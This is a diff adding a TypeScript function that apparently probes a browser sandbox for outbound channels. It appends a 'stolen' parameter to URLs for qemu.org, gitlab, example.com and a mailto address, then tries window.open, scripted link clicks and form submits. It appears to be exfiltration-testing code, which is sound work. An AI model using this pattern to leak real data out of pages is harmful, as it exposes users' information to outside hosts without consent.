@@ -274,3 +274,29 @@ export async function lookFromFrames(): Promise<readonly string[]> {
   for (const frame of frames) frame.remove();
   return reached;
 }
+
+/** Writes what it has read into addresses, and tries each way of having one opened; what came of each window. */
+export function sendByAddresses(): readonly string[] {
+  const addresses = [
+    'https://www.qemu.org/docs/master/interop/qcow2.html',
+    'https://www.qemu.org/docs/',
+    'https://gitlab.com/qemu-project/qemu/',
+    'https://example.com/',
+    'mailto:somebody@example.com',
+  ];
+  const outcomes: string[] = [];
+  for (let part = 0; part < 50; part++)
+    for (const address of addresses) {
+      const url = `${address}?stolen=${part}#${part}`;
+      outcomes.push(window.open(url, '_blank') === null ? 'no window' : 'a window');
+      if (part > 2) continue;
+      const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' });
+      const form = Object.assign(document.createElement('form'), { action: url, target: '_blank' });
+      document.body.append(link, form);
+      link.click();
+      form.submit();
+      link.remove();
+      form.remove();
+    }
+  return outcomes;
+}
